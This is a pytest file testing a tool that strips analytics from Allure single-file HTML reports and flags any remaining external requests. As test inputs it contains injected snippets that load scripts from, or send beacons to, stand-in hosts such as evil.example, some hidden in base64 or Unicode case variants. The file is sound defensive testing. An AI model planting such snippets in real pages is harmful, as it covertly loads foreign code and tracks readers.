"""The evidence file makes no outside request: analytics stripped, and the checker catches what remains."""
from __future__ import annotations

import base64

import pytest

from reporting.build import OfflineCheckError, make_offline
from reporting.offline import external_references, strip_external

APP = base64.b64encode(b'const a=document.createElementNS("http://www.w3.org/2000/svg","svg");'
                       b'const l={href:"https://allurereport.org"};').decode()

# The shape of Allure 3.18's awesome single-file page, with its hard-coded Google Analytics.
SAMPLE = f"""<!DOCTYPE html><html><head>
<link rel="icon" href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3C/svg%3E">
<script async src="https://www.googletagmanager.com/gtag/js?id=G-TEST"></script>
<script>
  window.dataLayer = window.dataLayer || [];
  function gtag(){{dataLayer.push(arguments);}}
  gtag('js', new Date());
  gtag('config', 'G-TEST', {{"report": "awesome"}});
</script>
<script>window.allureReportOptions = {{"reportName":"Cryptopay go-live evidence"}}</script>
</head><body><div id="app"></div>
<script src="data:text/javascript;base64,{APP}"></script>
</body></html>"""


def test_the_sample_has_external_references_before_stripping() -> None:
    found = external_references(SAMPLE)
    assert "https://www.googletagmanager.com/gtag/js?id=G-TEST" in found
    assert any(entry.startswith("analytics:") for entry in found)


def test_stripping_removes_the_gtag_script_and_its_inline_config_only() -> None:
    html, removed = strip_external(SAMPLE)
    assert removed == 2
    assert "googletagmanager" not in html and "gtag(" not in html and "dataLayer" not in html
    assert "window.allureReportOptions" in html and f"base64,{APP}" in html
    assert external_references(html) == []


def test_make_offline_returns_the_clean_page() -> None:
    html, removed = make_offline(SAMPLE)
    assert removed == 2 and "G-TEST" not in html


@pytest.mark.parametrize("leftover", [
    '<img alt="logo" src="https://cdn.example.com/logo.png">',
    '<script type="module">import x from "https://cdn.example.com/x.js"</script>',
    '<style>@import url("https://fonts.example.com/a.css");</style>',
    '<script>fetch("https://collector.example.com/beacon")</script>',
    '<div style="background:url(//cdn.example.com/bg.png)"></div>',
])
def test_the_checker_flags_a_remaining_external_reference_in_markup(leftover: str) -> None:
    html, _ = strip_external(SAMPLE)
    # Not via strip_external: the checker must catch what the stripper does not know about.
    html = html.replace("</body>", leftover + "</body>")
    assert any("example.com" in entry for entry in external_references(html))
    # make_offline either strips the reference (a loading tag) or refuses the page; it never returns it.
    try:
        cleaned, _ = make_offline(html)
    except OfflineCheckError as error:
        assert "example.com" in str(error)
    else:
        assert "example.com" not in cleaned


def test_the_checker_looks_inside_the_base64_app_bundle() -> None:
    bundle = base64.b64encode(b'const s=document.createElement("script");s.src="https://evil.example/t.js";')
    html = SAMPLE.replace(APP, bundle.decode())
    assert "https://evil.example/t.js" in external_references(strip_external(html)[0])


def _data_script(payload: str, around: str = "") -> str:
    """The report's data as Allure ships it: d("<path>", "<base64>") calls in one script."""
    return f'<script defer>{around}Promise.allSettled([d("widgets/statistic.json","{payload}")]);</script>'


def test_the_report_data_base64_is_not_searched_as_code_but_what_it_decodes_to_is() -> None:
    # A payload that decodes to an external image in a Markdown attachment is found through its decoding...
    markdown = base64.b64encode(b"![x](https://evil.example/pixel.png)").decode()
    page = SAMPLE.replace("</body>", _data_script("e30=").replace(
        'd("widgets/statistic.json","e30=")', f'd("data/attachments/a.md","{markdown}")') + "</body>")
    assert "data/attachments/a.md: https://evil.example/pixel.png" in external_references(strip_external(page)[0])
    # ...and code written around the calls is still code, whatever sits in the payload beside it.
    page = SAMPLE.replace("</body>", _data_script("QUJD", around='fetch("https://evil.example/b");') + "</body>")
    assert "https://evil.example/b" in external_references(strip_external(page)[0])
    # Analytics beside the data is still stripped: the script that carries it goes.
    page = SAMPLE.replace("</body>", _data_script("QUJD", around="gtag('config','G-X');") + "</body>")
    assert "G-X" not in strip_external(page)[0]


def test_a_case_variant_the_pattern_matches_is_still_found() -> None:
    # re.I reads the long s and the dotted and dotless i as s and i: the lookaheads that speed the search keep them.
    for code in ('ſrc="https://evil.example/a.js"', 'İmport("https://evil.example/b.js")'):
        page = SAMPLE.replace("</body>", f"<script>{code}</script></body>")
        assert any("evil.example" in entry for entry in external_references(page)), code
